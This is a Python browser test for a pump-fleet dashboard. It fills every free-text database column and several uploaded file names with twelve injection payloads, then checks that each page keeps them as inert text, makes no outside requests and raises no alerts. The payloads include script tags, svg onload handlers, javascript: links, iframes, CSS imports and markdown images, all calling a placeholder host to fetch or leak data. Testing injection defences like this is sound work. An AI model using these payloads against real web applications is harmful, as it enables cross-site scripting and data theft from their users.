"""Twelve kinds of payload in every column of free text, on every page: the browser asks nobody else."""

from __future__ import annotations

import json
from datetime import date, datetime
from urllib.parse import quote

import pytest

from dashboard.shell.navigation import PAGES
from ingest.errors import Question
from ingest.fleet_folder.tables import TABLES
from ingest.ledger.connection import open_ledger
from ingest.ledger.questions import raise_question
from ingest.ledger.rows import insert_row
from ingest.ledger.tables import table_names
from tests.browser.browsing import DESKTOP, LEAN, ask, go, served, settle
from tests.ledger_fixture import UNITS, build_ledger

pytestmark = pytest.mark.browser

ELSEWHERE = "leak.invalid"  # RFC 2606: no such host can be
PAYLOADS = (
    f"![p](http://{ELSEWHERE}/1.png)",
    f"[l](http://{ELSEWHERE}/2)",
    f"<img src=http://{ELSEWHERE}/3.png>",
    f"<script>fetch('http://{ELSEWHERE}/4')</script>",
    f"<svg onload=fetch('http://{ELSEWHERE}/5')>",
    f"![p][r] [r]: http://{ELSEWHERE}/6.png",
    f"<a href=javascript:fetch('//{ELSEWHERE}/7')>l</a>",
    f"http://{ELSEWHERE}/8 www.{ELSEWHERE}/8",
    f"$\\href{{http://{ELSEWHERE}/9}}{{x}}$",
    f":red[x] :material/home: :streamlit: **b** #{ELSEWHERE}",
    f'"><iframe src=//{ELSEWHERE}/11>',
    f"<style>@import'//{ELSEWHERE}/12'</style>",
)
# What is no free text: words of a list, keys, what the program writes in its own form.
NOT_FREE = {column.target for table in TABLES for column in table.columns if column.kind == "choice"} | {
    "unit", "pump_type", "capture_hash", "table_name", "row_key", "field", "code", "status", "level",
    "origin", "odometer_unit", "time_zone", "stored_as", "element", "key", "value", "ledger_id", "decision",
    "job", "source", "command", "script", "name", "lines", "notes", "speed_candidates", "parameters",
    "unit_of_time", "withdrawn", "filter", "clock", "currency", "entry", "file_hash", "name_hash",
    "picture_hash", "matched_by", "row_id", "shows", "state",
}  # fmt: skip
# Free text under a name that is a word of a list elsewhere.
FREE_ALL_THE_SAME = {(table, "reason") for table in ("booking", "change_log", "hold", "tray")}
PARTS = {
    "pump-history": ("history_part", ("What is expected", "Waveforms", "Visits")),
    "costs": ("costs_part", ("Policies", "Best age", "Types and lots", "Lists and outcomes")),
    "fleet-data": (
        "part",
        ("Pump types", "Where to clamp", "Work done", "Prices", "Settings", "Changes", "Bring in a folder"),
    ),
}
# Names of files no disk need hold, as any page may be sent: payloads, codes, turned letters, a long one.
FILE_NAMES = (*PAYLOADS, "\x1b[31mred", "a\u202egnp", "line\nline", "x" * 300)
MADE_OF_TEXT = """host => [...document.querySelectorAll('a[href], img, iframe, svg image, script[src], link')]
    .filter(e => [e.getAttribute('src'), e.getAttribute('href')].some(at => String(at).includes(host)
        && new URL(at, document.baseURI).host !== location.host))  // a page of ours may be asked for a name
    .map(e => e.outerHTML.slice(0, 200))
    .concat([...document.querySelectorAll('[data-testid=stMain] :is(.katex, .stMarkdownColoredText)')]
        .map(e => e.outerHTML.slice(0, 200)))"""


def names(kind: str) -> list[str]:
    """A name that is a payload, for each unit or pump type; told from others by its end."""
    return [f"{payload[:90]} {kind}{n}" for n, payload in enumerate(PAYLOADS)]


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory):
    """A ledger with twelve units in which each free text, in some row or other, is each of the payloads."""
    path = build_ledger(tmp_path_factory.mktemp("text") / "fleet.duckdb")
    with open_ledger(path, read_only=False) as con:
        for n in range(len(PAYLOADS)):
            con.execute("INSERT INTO vehicle (unit, recorded_at) VALUES (?, now())", [f"more {n}"])
            con.execute("INSERT INTO pump_type (pump_type, recorded_at) VALUES (?, now())", [f"T{n}"])
            on = {"unit": "101", "note": "x"}
            insert_row(con, "pump", {"unit": f"more {n}", "pump_type": f"T{n}", "serial": "x"})
            insert_row(con, "breakdown", on | {"happened_on": "2025-02-01"})
            insert_row(con, "service", on | {"done_on": "2025-02-01", "work": "filter"})
            insert_row(con, "connection_note", {"make": "x", "model": "x", "clamp_point": "x"})
            raise_question(con, "visit", str(n), Question("", f"asked-{n}", "x"), unit="101")
            row = [5000 + n, "visit", "1", "note"]
            con.execute(
                "INSERT INTO change_log (change_id, table_name, row_key, field, changed_at)"
                " VALUES (?, ?, ?, ?, now())",
                row,
            )
            of_list = "(list_id, made_at, as_of, lines) VALUES (?, now(), '2025-02-01', '[]')"
            con.execute(f"INSERT INTO plan_list {of_list}", [n])
            for table, row in _rows_of_more(n).items():
                insert_row(con, table, row)
            decision = {"pump_id": 1 + n % 9, "status": "rejected", "decided_at": datetime(2025, 2, 1)}
            insert_row(con, "booking", decision)
        con.execute("CREATE TEMP TABLE payload (n BIGINT, text VARCHAR)")
        con.executemany("INSERT INTO payload VALUES (?, ?)", list(enumerate(PAYLOADS)))
        free = con.execute(
            "SELECT table_name, column_name FROM duckdb_columns() WHERE schema_name = 'main' AND NOT internal"
            " AND data_type = 'VARCHAR' AND database_name = 'fleet'"
        ).fetchall()
        tables = set(table_names(con))
        free = [(t, c) for t, c in free if t in tables and (c not in NOT_FREE or (t, c) in FREE_ALL_THE_SAME)]
        for place, (table, column) in enumerate(free):
            con.execute(
                f'UPDATE "{table}" SET "{column}" = (SELECT text FROM payload'
                f" WHERE n = (rowid_ + {place}) % {len(PAYLOADS)})".replace("rowid_", f'"{table}".rowid')
            )
        for table, kind, known in (
            ("unit", "u", [*UNITS, *(f"more {n}" for n in range(4))]),
            ("pump_type", "t", ["FP-10", "FP-20", "FP-30", *(f"T{n}" for n in range(9))]),
        ):
            for old, new in zip(known, names(kind), strict=True):
                for holder in tables:
                    columns = [c for (c,) in con.execute(
                        "SELECT column_name FROM duckdb_columns() WHERE table_name = ?", [holder]
                    ).fetchall()]  # fmt: skip
                    if table in columns:
                        con.execute(f'UPDATE "{holder}" SET {table} = ? WHERE {table} = ?', [new, old])
        # As nothing lets it in today, and a ledger of before may hold it.
        setting = {"key": "currency", "value": json.dumps(PAYLOADS[0]), "valid_from": "1900-01-01"}
        insert_row(con, "setting", setting | {"set_by": PAYLOADS[1]})
        held = 0
        for table, column in free:
            texts = con.execute(f'SELECT DISTINCT "{column}" FROM "{table}"').fetchall()
            held += len({text for (text,) in texts} & set(PAYLOADS))
        assert held > 1000
    return path


def _rows_of_more(n: int) -> dict[str, dict[str, object]]:
    """One row of each table that a small ledger has none or few of."""
    day, x = date(2025, 2, 1 + n), f"x{n}"
    return {
        "clamp": {"clamp": x, "due_on": day},
        "clamp_check": {"clamp": x, "checked_on": day, "known_a": 5.0, "read_a": 5.1},
        "hold": {"pump_type": f"T{n}", "reason": x, "held_on": day},
        "hold_closed": {"hold_id": 1 + n, "pump_id": 1 + n % 9, "closed_on": day, "outcome": "checked"},
        "claim_step": {"pump_id": 1 + n % 9, "state": "open", "stated_on": day},
        "tray": {"file_name": x, "file_hash": x, "captured_on": day, "mean_a": 5.0},
        "odometer": {"unit": "101", "read_on": day, "odometer_km": 5000.0 + n, "source": "import"},
        "due_work": {"unit": "101", "due_on": day, "work": x},
        "bay_hours": {"depot": x, "week_of": day, "hours": 10.0},
        "cost_entry": {
            "element": "failure_replacement",
            "amount": 9.0,
            "valid_from": day,
            "confirmed": False,
        },
        "stock": {"depot": x, "pump_type": f"T{n}", "on_hand": 1},
    }


def addresses() -> list[str]:
    """Every page, its parts, and those that are about one unit or visit."""
    found = [entry.address for entry in PAGES.values()]
    for address, (key, parts) in PARTS.items():
        own = next(entry.address for entry in PAGES.values() if entry.address in (address, "pump"))
        start = address if address in found else own
        more = "pump=1&" if start in ("pump", "pump-history") else ""
        found += [f"{start}?{more}{key}={quote(part)}" for part in parts]
    unit = quote(names("u")[0])
    return [*found, f"log-visit?unit={unit}", "log-visit?saved=1", "log-visit?saved=13", "plan-board?pump=1"]


def made_of_file_names(watched) -> dict[str, list[str]]:
    """Give photos, all names at once, the first refused, and a capture; return what was made of them."""
    page, made = watched.page, {}

    def give(names: tuple[str, ...], several: str) -> None:
        files = [{"name": name, "mimeType": "text/plain", "buffer": b"nothing"} for name in names]
        ask(page, lambda: page.set_input_files(f"input[type=file]{several}", files))
        made[f"file {names[0]}"] = page.evaluate(MADE_OF_TEXT, ELSEWHERE) + watched.outside
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), names

    go(page, "log-visit?saved=1")
    page.get_by_text("Photos", exact=True).click()
    give(FILE_NAMES, "[multiple]")
    ask(page, page.get_by_role("button", name="Keep the photos").click)
    page.get_by_text("this is no photo").wait_for()
    made["a refused photo"] = page.evaluate(MADE_OF_TEXT, ELSEWHERE) + watched.outside
    go(page, "log-visit")
    give(FILE_NAMES[:1], "")
    page.get_by_text("no rows of numbers were found").wait_for()
    return made


def test_text_from_data_stays_text_on_every_page(watch, poisoned):
    with served(poisoned, LEAN) as address:
        watched = watch(DESKTOP)
        watched.address = address
        alerts: list[str] = []
        watched.page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
        made: dict[str, list[str]] = {}
        frames: list[bytes] = []
        watched.page.on("websocket", lambda line: line.on("framereceived", lambda got: frames.append(got)))
        reached = set()
        watched.page.goto(address)
        settle(watched.page)
        for where in addresses():
            go(watched.page, where)
            made[where] = watched.page.evaluate(MADE_OF_TEXT, ELSEWHERE) + watched.outside
            watched.outside.clear()
            text = watched.page.locator('[data-testid="stMain"]').inner_text()
            assert "Something went wrong" not in text, where
            reached |= {
                n for n, payload in enumerate(PAYLOADS) if any(payload[:24].encode() in f for f in frames)
            }
            frames.clear()
        made |= made_of_file_names(watched)
        assert {where: found for where, found in made.items() if found} == {}
        assert alerts == []
        assert [text for text in watched.complaints if "ontent Security" in text] == []
        assert reached == set(range(len(PAYLOADS)))  # unescaped in lists and charts, whose cells are drawn
